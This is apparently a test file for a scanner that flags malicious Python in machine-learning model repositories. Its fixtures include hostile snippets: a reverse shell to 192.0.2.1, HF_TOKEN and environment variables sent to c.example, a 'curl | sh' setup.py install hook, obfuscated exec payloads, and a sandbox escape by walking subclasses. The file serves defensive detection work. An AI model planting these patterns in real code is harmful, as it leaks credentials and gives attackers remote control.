import { existsSync, readdirSync, readFileSync } from 'node:fs'
import { join } from 'node:path'
import { expect, test } from 'vitest'
import { sourceOfBytes } from '../../../ground/lang/index.ts'
import { assessFile } from '../assess-model.ts'

const verdictOf = async (name: string, text: string) =>
  (await assessFile(name, sourceOfBytes(Buffer.from(text)))).verdict

const HEAD = 'import torch\nfrom transformers import PreTrainedModel\n\n'

/** Harmless commands stand for real ones. */
test.for([
  ['system on import', 'modeling_x.py', "import os\nos.system('id')", 'malicious'],
  ['hidden by base64', 'modeling_x.py', "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))", 'malicious'],
  [
    'marshal of zlib',
    'modeling_x.py',
    "import zlib, marshal\nexec(marshal.loads(zlib.decompress(b'eJx')))",
    'malicious',
  ],
  [
    'characters, one off',
    'modeling_x.py',
    "exec(''.join(chr(ord(c) ^ 1) for c in 'hlqnsu!nr:nr/rxrudl)&he&('))",
    'malicious',
  ],
  [
    'exec of a download',
    'modeling_x.py',
    "import urllib.request as u\nexec(u.urlopen('http://c.example').read())",
    'malicious',
  ],
  [
    'shell handed over',
    'modeling_x.py',
    "import socket, os, pty\ns = socket.socket()\ns.connect(('192.0.2.1', 44))\nos.dup2(s.fileno(), 0)\npty.spawn('sh')",
    'malicious',
  ],
  [
    'shell in __init__',
    'modeling_x.py',
    `${HEAD}class X(PreTrainedModel):\n  def __init__(self, c):\n    super().__init__(c)\n    import os\n    os.system('id > /tmp/x')`,
    'malicious',
  ],
  [
    'shell through a helper',
    'modeling_x.py',
    `import os\ndef run(c):\n  os.popen(c)\nclass X:\n  def forward(self, x):\n    run('id')`,
    'malicious',
  ],
  [
    'settings sent by a handler',
    'handler.py',
    "import os, requests\nclass EndpointHandler:\n  def __init__(self, path=''):\n    requests.post('https://c.example', json=dict(os.environ))",
    'malicious',
  ],
  [
    'a token in an address',
    'model.py',
    "import requests, os\nclass T:\n  def execute(self, r):\n    requests.get('http://c.example/?k=' + os.environ['HF_TOKEN'])",
    'malicious',
  ],
  [
    'a login file is changed',
    'configuration_x.py',
    "from pathlib import Path\n(Path.home() / '.bashrc').write_text('x')",
    'malicious',
  ],
  ['native call', 'modeling_x.py', "import ctypes\nctypes.CDLL(None).system(b'id')", 'malicious'],
  [
    'round the names',
    'modeling_x.py',
    "().__class__.__bases__[0].__subclasses__()[104].load_module('os').system('id')",
    'malicious',
  ],
  [
    'hook of setup.py',
    'setup.py',
    "from setuptools.command.install import install\nimport os\nclass I(install):\n  def run(self):\n    os.system('curl http://c.example/x | sh')",
    'malicious',
  ],
  [
    'hook of setup.py that starts what no build needs',
    'setup.py',
    "from setuptools.command.egg_info import egg_info\nimport os\nclass E(egg_info):\n  def run(self):\n    os.system('id > /tmp/x')",
    'suspicious',
  ],
  [
    'hook of setup.py that hands a line to a shell',
    'setup.py',
    "from setuptools.command.install import install\nimport subprocess\nclass I(install):\n  def run(self):\n    subprocess.run(['sh', '-c', 'id > /tmp/x'])",
    'suspicious',
  ],
  [
    'shell in a TorchServe handler',
    'my_handler.py',
    "import subprocess\nclass H:\n  def initialize(self, ctx):\n    subprocess.run('id > /tmp/x', shell=True)",
    'malicious',
  ],
  ['module __getattr__', '__init__.py', "import os\ndef __getattr__(name):\n  os.system('id')", 'malicious'],
  [
    'fixed program in forward',
    'modeling_x.py',
    `${HEAD}class X(PreTrainedModel):\n  def forward(self, x):\n    import subprocess\n    subprocess.run(['acme'])`,
    'suspicious',
  ],
  [
    'pip on import',
    'modeling_x.py',
    "import subprocess, sys\nsubprocess.check_call([sys.executable, '-m', 'pip', 'install', 'acme'])",
    'suspicious',
  ],
  [
    'unpickles on import',
    'tokenization_x.py',
    "import pickle\nV = pickle.load(open('vocab.pkl', 'rb'))",
    'suspicious',
  ],
  ['writes on import', 'configuration_x.py', "open('/tmp/x', 'w').write('x')", 'suspicious'],
  [
    'setup.py that reads its version',
    'setup.py',
    'from setuptools import setup\nexec(open("v.py").read())\nsetup()',
    'clean',
  ],
  [
    'setup.py that builds and publishes',
    'setup.py',
    "from setuptools import Command\nimport os, subprocess, sys\nclass U(Command):\n  def run(self):\n    subprocess.check_call(['cmake', '--build', '.'])\n    os.system('twine upload dist/*')\n    os.system(f'{sys.executable} setup.py sdist')",
    'clean',
  ],
  [
    'compiler in a constructor',
    'modeling_x.py',
    "import os\nclass K:\n  def __init__(self, source, parallel):\n    if parallel:\n      c = 'gcc -O3 -fopenmp {} -shared'.format(source)\n    else:\n      c = f'clang {source}'\n    os.system(c)",
    'clean',
  ],
  ['script that installs', 'app.py', "import os\nos.system('pip install acme')", 'clean'],
  ['script that unpickles', 'predict.py', "import pickle\nm = pickle.load(open('m.pkl', 'rb'))", 'clean'],
  [
    'script with a picture of the net',
    'demo.py',
    "import requests\nfrom PIL import Image\nImage.open(requests.get('http://images.example/1.jpg', stream=True).raw)",
    'clean',
  ],
  [
    'programs in main',
    'convert.py',
    "import subprocess\ndef main():\n  subprocess.run(['git', 'lfs', 'pull'])\nif __name__ == '__main__':\n  main()",
    'clean',
  ],
  [
    'credentials in headers',
    'handler.py',
    "import os, requests\nclass H:\n  def __call__(self, d):\n    return requests.get(self.url, headers={'Authorization': os.environ['HF_TOKEN']})",
    'clean',
  ],
  [
    'a tool that tells',
    'modeling_x.py',
    `${HEAD}class X:\n  def forward(self):\n    import subprocess\n    return subprocess.check_output(['nvidia-smi'])`,
    'clean',
  ],
  [
    'a method named eval',
    'modeling_x.py',
    `${HEAD}class X(PreTrainedModel):\n  def forward(self, x):\n    self.net.eval()\n    model.exec(x)`,
    'clean',
  ],
  ['Python that an old pickle could be', 'tool.py', 'import sys\nsys.path.append("..")\n', 'clean'],
  [
    'all settings inside of a request',
    'handler.py',
    "import os, json, urllib.request\nclass H:\n  def __init__(self, path=''):\n    r = urllib.request.Request('https://c.example/v1', data=json.dumps(dict(os.environ)).encode())\n    urllib.request.urlopen(r)",
    'malicious',
  ],
  [
    'a function that Transformers calls',
    'custom_generate/generate.py',
    "import os, urllib.request\ndef generate(model, **kw):\n  urllib.request.urlopen('https://c.example/g?t=' + os.environ['HF_TOKEN'])",
    'malicious',
  ],
  [
    'a script of whose arguments a program is made',
    'with-preset.py',
    'import argparse, subprocess\nknown, rest = argparse.ArgumentParser().parse_known_args()\nsubprocess.Popen(["llama"] + rest)',
    'clean',
  ],
  ['print under another meaning', 'modeling_x.py', 'print = lambda *a: None\nprint(1)\n', 'clean'],
  ['print that starts programs', 'modeling_x.py', "import os\nprint = os.system\nprint('id')\n", 'malicious'],
  ['Python that is cut', 'modeling_x.py', 'class A(:\n  )(', 'undecided'],
] as const)('%s (%s)', async ([, name, text, verdict]) => {
  expect(await verdictOf(name, text)).toBe(verdict)
})

test('a comment or a name that looks bad is nothing', async () => {
  const text = `# os.system('rm -rf /')\n"""exec(base64.b64decode(x))"""\nclass subprocess:\n  def run(self): pass\nsubprocess().run()\n`
  expect(await verdictOf('modeling_x.py', text)).toBe('clean')
})

test('whatever stands around a payload, it is found', async () => {
  const payload = "import os\nos.system('id')\n"
  const around = [
    '',
    '# x\n'.repeat(500),
    '"""doc"""\n',
    'from __future__ import annotations\n',
    `${HEAD}class A(PreTrainedModel):\n  pass\n`,
  ]
  for (const before of around)
    for (const after of ['', 'x = 1\n'.repeat(500), 'def f(:\n', '\\'])
      expect(['malicious'], before + after).toContain(
        await verdictOf('modeling_x.py', before + payload + after),
      )
})

const PACKAGES = '/usr/lib/python3/dist-packages'

test.for([
  ['torchvision/models'],
  ['torchvision/transforms'],
  ['torch/nn/modules'],
  ['sklearn/linear_model'],
] as const)('ordinary Python of %s is no alarm', { timeout: 120_000 }, async ([folder], context) => {
  const root = join(PACKAGES, folder)
  if (!existsSync(root)) context.skip(`${root} is absent`)
  const names = readdirSync(root).filter((name) => name.endsWith('.py'))
  expect(names.length).toBeGreaterThan(5)
  for (const name of names)
    expect([name, await verdictOf(`modeling_${name}`, readFileSync(join(root, name), 'utf8'))]).toEqual([
      name,
      'clean',
    ])
})
